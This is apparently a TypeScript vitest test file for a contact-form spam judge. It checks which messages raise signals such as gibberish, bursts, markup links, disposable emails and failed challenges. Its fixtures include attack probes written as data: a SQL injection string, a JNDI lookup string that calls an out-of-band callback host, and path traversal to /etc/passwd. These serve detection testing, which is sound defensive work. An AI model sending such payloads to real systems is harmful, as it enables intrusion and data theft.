import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { FieldPairs } from "#lib/core/fields/fields";
import {
  type FormPast,
  type JudgedMessage,
  judge,
  type WorkspacePast,
} from "#lib/domain/spam/judge";
import { isMovable, isSuspected, pointsOf, type SignalCode } from "#lib/domain/spam/signals";

const FORM: FormPast = { count: 200, usualLinks: 0, scripts: new Set(["Latin"]) };
const WORKSPACE: WorkspacePast = {
  sameElsewhere: 0,
  sameHere: 0,
  isDisposable: (domain) => domain === "mailinator.com",
};

const message = (
  fields: Record<string, string>,
  more: Partial<JudgedMessage> = {},
): JudgedMessage => ({
  fields: Object.entries(fields) satisfies FieldPairs,
  name: fields.name ?? null,
  email: fields.email ?? null,
  filledInMs: null,
  challenge: null,
  ...more,
});

const GOOD = { name: "Ada Lovelace", email: "ada@example.com", message: "Do you open on Sunday?" };

type Case = [
  code: SignalCode,
  title: string,
  given: JudgedMessage,
  past?: { form?: Partial<FormPast>; workspace?: Partial<WorkspacePast> },
];

const codesOf = (given: JudgedMessage, past: Case[3] = {}) =>
  judge(given, { ...FORM, ...past.form }, { ...WORKSPACE, ...past.workspace }).map(
    ({ code }) => code,
  );

const COUNTS: Case[] = [
  [
    "gibberish",
    "random letters in two fields",
    message({ name: "xKqZtRvbWp", message: "QmTzRkLpWvXbYh" }),
  ],
  [
    "gibberish",
    "small random letters",
    message({ name: "qxjvzwkpt", message: "zqxvwjkhtb pvxqzjwf" }),
  ],
  ["probe", "SQL", message({ ...GOOD, name: "1' OR '1'='1" })],
  ["probe", "a look-up", message({ ...GOOD, message: "${" + "jndi:ldap://x.oast.fun/a}" })],
  ["probe", "a path", message({ ...GOOD, message: "../../../../etc/passwd" })],
  ["burst", "the same text to two forms", message(GOOD), { workspace: { sameElsewhere: 1 } }],
  ["burst", "the same text three times", message(GOOD), { workspace: { sameHere: 2 } }],
  ["markup", "a forum's link", message({ ...GOOD, message: "[url=https://a.example]a[/url]" })],
  [
    "markup",
    "a page's link",
    message({ ...GOOD, message: 'see <a href="https://a.example">a</a>' }),
  ],
  ["echo", "the name as the message", message({ ...GOOD, message: "ada lovelace" })],
  ["links", "more links than usual", message({ ...GOOD, message: "https://a.example" })],
  ["script", "another script", message({ ...GOOD, message: "Здравствуйте, есть вопрос" })],
  ["disposable", "a disposable address", message({ ...GOOD, email: "x@mailinator.com" })],
  ["dotted", "a dotted Gmail address", message({ ...GOOD, email: "a.b.c.d.e@gmail.com" })],
  ["fast", "a form filled in at once", message(GOOD, { filledInMs: 900 })],
  ["challenge", "a failed challenge", message(GOOD, { challenge: "failed" })],
];

test.each(COUNTS)("%s counts: %s", (code, _, given, past) => {
  expect(codesOf(given, past)).toContain(code);
});

const INNOCENT: Case[] = [
  ["gibberish", "one random field, such as a key", message({ ...GOOD, key: "QmTzRkLpWvXbYh" })],
  [
    "gibberish",
    "names and compounds",
    message({ name: "Grzegorz Brzęczyszczykiewicz", message: "Angstschweiß und Rechtschreibung" }),
  ],
  ["gibberish", "codes with digits", message({ serial: "XKQ29B7ZRT4", order: "QZ-88231-KXW" })],
  [
    "probe",
    "a question about SQL",
    message({ ...GOOD, message: "Which is better, select or update?" }),
  ],
  ["burst", "the same text twice to one form", message(GOOD), { workspace: { sameHere: 1 } }],
  ["markup", "a price in brackets", message({ ...GOOD, message: "[urgent] <3 your shop" })],
  ["echo", "a form that asks for an address alone", message({ email: GOOD.email })],
  [
    "links",
    "as many links as usual",
    message({ ...GOOD, message: "https://a.example" }),
    { form: { usualLinks: 1 } },
  ],
  ["links", "an email address", message({ ...GOOD, message: "write to me@shop.example" })],
  [
    "script",
    "a young form",
    message({ ...GOOD, message: "Здравствуйте, есть вопрос" }),
    { form: { count: 49 } },
  ],
  ["script", "a name in another script", message({ ...GOOD, name: "Ада" })],
  ["dotted", "three dots", message({ ...GOOD, email: "a.b.c.d@gmail.com" })],
  ["fast", "an unknown time", message(GOOD)],
  ["fast", "two seconds", message(GOOD, { filledInMs: 2_000 })],
];

test.each(INNOCENT)("%s doesn't count: %s", (code, _, given, past) => {
  expect(codesOf(given, past)).not.toContain(code);
});

describe("points", () => {
  const weak = message(
    { ...GOOD, email: "a.b.c.d.e@mailinator.com" },
    { filledInMs: 1, challenge: "failed" },
  );

  test("weak signals never make two together", () => {
    const signals = judge(weak, FORM, WORKSPACE);
    expect(signals.length).toBeGreaterThan(2);
    expect(pointsOf(signals)).toBe(1);
    expect(isSuspected(signals)).toBe(false);
  });

  test("a weak signal and a link make a message suspected, a link in code moves it", () => {
    const linked = { ...GOOD, email: "x@mailinator.com", message: "https://a.example" };
    expect(isSuspected(judge(message(linked), FORM, WORKSPACE))).toBe(true);
    expect(isMovable(judge(message(linked), FORM, WORKSPACE))).toBe(false);
    const coded = { ...linked, message: "[url=https://a.example]" };
    expect(isMovable(judge(message(coded), FORM, WORKSPACE))).toBe(true);
    const pasted = { ...GOOD, message: 'Why is <a href="https://a.example">this</a> not shown?' };
    expect(isSuspected(judge(message(pasted), FORM, WORKSPACE))).toBe(true);
    expect(isMovable(judge(message(pasted), FORM, WORKSPACE))).toBe(false);
  });

  test("a passed challenge takes one point away, and never makes less than none", () => {
    const echo = { ...GOOD, message: GOOD.name };
    expect(pointsOf(judge(message(echo, { challenge: "passed" }), FORM, WORKSPACE))).toBe(1);
    expect(pointsOf(judge(message(GOOD, { challenge: "passed" }), FORM, WORKSPACE))).toBe(0);
  });

  test("the strongest signal comes first", () => {
    const signals = judge(
      message({
        ...GOOD,
        message: "[url=https://a.example] https://b.example https://c.example ../../etc/passwd",
      }),
      FORM,
      WORKSPACE,
    );
    expect(signals.map(({ points }) => points)).toEqual([3, 2, 1]);
  });
});

test("any message gets a verdict, and what follows 8,000 characters isn't looked at", () => {
  const value = fc.oneof(
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.array(fc.string({ maxLength: 50 }), { maxLength: 5 }),
  );
  const fields = fc.array(fc.tuple(fc.string({ maxLength: 20 }), value), { maxLength: 12 });
  const sender = fc.option(fc.string({ maxLength: 60 }));
  fc.assert(
    fc.property(fields, sender, sender, (given, name, email) => {
      const judged = { fields: given, name, email, filledInMs: null, challenge: null } as const;
      for (const { points } of judge(judged, FORM, WORKSPACE)) expect([1, 2, 3]).toContain(points);
    }),
  );
  const padding = Object.fromEntries(
    Array.from({ length: 5 }, (_, n) => [`text ${n}`, "word ".repeat(400)]),
  );
  expect(codesOf(message({ ...padding, last: "../../../etc/passwd" }))).toEqual([]);
});
